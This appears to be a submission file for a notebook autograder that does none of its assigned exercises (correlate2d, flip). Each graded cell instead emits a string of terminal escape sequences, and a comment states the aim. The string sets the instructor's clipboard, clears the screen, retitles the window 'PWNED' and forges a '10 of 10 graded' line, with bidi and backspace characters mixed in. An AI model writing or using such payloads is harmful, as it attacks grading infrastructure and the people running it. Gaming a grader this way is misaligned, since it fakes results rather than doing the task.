# Send commands to the instructor's terminal: set the clipboard, clear the screen, forge a line.
# ends: any
# %%
evil = "\x1b]52;c;UFdORUQ=\x07\x1b[2J\x1b[H\x1b]0;PWNED\x07\x9b31m\r\nhonest_right  10 of 10  graded\n\u2028\u202e\x08\x7f"
print(evil)
raise type(evil.replace("\x00", ""), (Exception,), {})(evil)


# %% grade_id="01-by-hand"
by_hand = evil


# %% grade_id="01-correlate2d"
def correlate2d(x, w, stride=(1, 1)):
    raise ValueError(evil)


# %% grade_id="01-flip"
def flip(w):
    return {evil: [evil] * 3}
